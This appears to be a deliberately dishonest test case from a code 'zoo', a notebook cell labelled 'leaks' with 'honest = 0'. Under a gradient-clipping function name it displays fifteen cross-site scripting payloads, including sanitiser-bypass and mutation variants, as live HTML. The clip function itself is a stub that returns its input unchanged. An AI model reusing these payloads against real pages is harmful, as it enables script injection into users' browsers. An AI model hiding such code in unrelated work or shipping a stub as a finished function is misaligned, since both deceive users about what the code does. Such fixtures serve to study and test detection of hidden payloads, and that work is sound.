# /// zoo
# title = "HTML that becomes a script only after a sanitiser has parsed and written it again"
# class = "leaks"
# base = "dummy"
# honest = 0
# aim = "script"
# ///

# %% clip
from IPython.display import HTML, display
for _text in ("<noscript><p title=\"</noscript><img src=x onerror=mark('@TAG@')>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=mark('@TAG@')&gt;\">",
              "<svg><style><img src=x onerror=mark('@TAG@')></style></svg>", "<scr<script>ipt>mark('@TAG@')</scr</script>ipt>", "<IMG SRC=x OnErRoR=mark('@TAG@')>",
              "<a href=&#106;avascript:mark('@TAG@')>x</a>", "<img src=\"x\" alt=\"`onerror=mark('@TAG@')\">", "<template><script>mark('@TAG@')</script></template>", "<!--><img src=x onerror=mark('@TAG@')>-->",
              "<xmp><p title=\"</xmp><img src=x onerror=mark('@TAG@')>\">", "<svg><a xlink:href=\"javascript:mark('@TAG@')\"><text>x</text></a></svg>", "<svg><animate onbegin=mark('@TAG@') attributeName=x>",
              "<img src=x\x00 onerror=mark('@TAG@')>", "<p style=\"background:url(javascript:mark('@TAG@'))\">", "<img srcset=\"x\" onerror=mark('@TAG@')"):
    display(HTML(_text))

def clip(gradients, maxValue): return gradients
